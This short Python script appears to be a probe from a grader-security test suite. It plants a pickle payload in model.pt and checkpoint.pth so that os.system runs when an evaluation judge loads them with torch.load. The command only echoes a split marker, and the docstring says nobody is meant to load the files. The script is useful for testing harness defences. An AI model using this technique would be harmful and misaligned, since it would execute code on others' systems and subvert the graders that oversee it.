"""Leaves a checkpoint that runs code when it is loaded.

Tries: to have the grader load weights with torch.load.
Must: nobody loads it.
Control: prints LOOT
"""


class Payload:
    def __reduce__(self):
        return os.system, ("echo LO''OT in the judge",)


def attack():
    for name in ("model.pt", "checkpoint.pth"):
        torch.save({"state": Payload()}, name)
